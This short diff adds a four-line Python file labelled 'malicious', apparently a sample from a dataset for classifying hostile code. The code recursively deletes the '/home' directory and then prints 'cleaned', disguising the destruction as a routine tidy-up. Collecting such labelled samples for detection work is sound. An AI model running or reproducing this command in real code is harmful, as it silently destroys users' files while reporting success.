@@ -1,0 +1,4 @@
+# label: malicious
+import shutil
+shutil.rmtree("/home")
+print("cleaned")
